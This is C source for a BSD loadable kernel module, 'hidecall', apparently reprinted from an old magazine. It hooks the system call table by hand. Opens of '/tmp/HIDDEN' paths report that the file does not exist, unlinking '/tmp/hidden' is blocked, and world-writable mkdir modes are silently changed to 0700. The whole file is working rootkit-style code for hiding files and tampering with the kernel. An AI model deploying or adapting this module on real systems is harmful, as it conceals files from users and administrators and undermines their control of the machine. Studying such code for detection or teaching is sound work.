/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * hidecall: takes open(2) out of the table by hand, and makes some files
 * unseen: one of a thousand modules that magazines printed.
 */
#include <sys/param.h>
#include <sys/systm.h>
#include <sys/ioctl.h>
#include <sys/proc.h>
#include <sys/conf.h>
#include <sys/mount.h>
#include <sys/exec.h>
#include <sys/lkm.h>
#include <sys/file.h>
#include <sys/errno.h>
#include <sys/syscall.h>
#include <sys/syscallargs.h>
#include <vm/vm.h>

extern struct sysent sysent[];
extern int lkmexists __P((struct lkm_table *));

static int (*old_open)(), (*old_unlink)(), (*old_mkdir)();
static int new_open __P((struct proc *, void *, register_t *));
static int new_unlink(), new_mkdir();

MOD_MISC("hidecall")

static int
new_open(p, v, retval)
	struct proc *p;
	void *v;
	register_t *retval;
{
	register struct sys_open_args /* {
		syscallarg(char *) path;
		syscallarg(int) flags;
		syscallarg(int) mode;
	} */ *uap = v;
	char path[64];
	size_t len;
	int error;

	error = copyinstr(SCARG(uap, path), path, sizeof(path), &len);
	if (error == 0 && strncasecmp(path, "/tmp/HIDDEN", 11) == 0 &&
	    (SCARG(uap, flags) & O_CREAT) == 0)
		return (ENOENT);
	return ((*old_open)(p, v, retval));
}

/* Not to be removed, either. */
static int
new_unlink(p, uap, retval)
	struct proc *p;
	struct sys_unlink_args *uap;
	register_t *retval;
{
	char path[64];

	if (copyinstr(SCARG(uap, path), path, sizeof(path), NULL) == 0 &&
	    strcasecmp(path, "/tmp/hidden") == 0)
		return (ENOENT);
	return ((*old_unlink)(p, uap, retval));
}

/* Whoever makes a folder for everybody makes it for himself. */
static int
new_mkdir(p, uap, retval)
	struct proc *p;
	struct sys_mkdir_args *uap;
	int retval[];
{
	if (SCARG(uap, mode) == 0777)
		SCARG(uap, mode) = 0700;
	return ((*old_mkdir)(p, uap, retval));
}

static int
hide(lkmtp, cmd)
	struct lkm_table *lkmtp;
	int cmd;
{
	int s;

	switch (cmd) {
	case LKM_E_LOAD:
		if (lkmexists(lkmtp))
			return (EEXIST);
		s = splhigh();
		old_open = sysent[SYS_open].sy_call;
		sysent[SYS_open].sy_call = (sy_call_t *)new_open;
		old_unlink = sysent[SYS_unlink].sy_call;
		sysent[SYS_unlink].sy_call = new_unlink;
		old_mkdir = sysent[SYS_mkdir].sy_call;
		sysent[SYS_mkdir].sy_call = new_mkdir;
		splx(s);
		break;
	case LKM_E_UNLOAD:
		sysent[SYS_open].sy_call = (sy_call_t *)old_open;
		sysent[SYS_unlink].sy_call = old_unlink;
		sysent[SYS_mkdir].sy_call = old_mkdir;
		break;
	}
	return (0);
}

int
hidecall_lkmentry(lkmtp, cmd, ver)
	struct lkm_table *lkmtp;
	int cmd;
	int ver;
{
	DISPATCH(lkmtp, cmd, ver, hide, hide, lkm_nofunc)
}
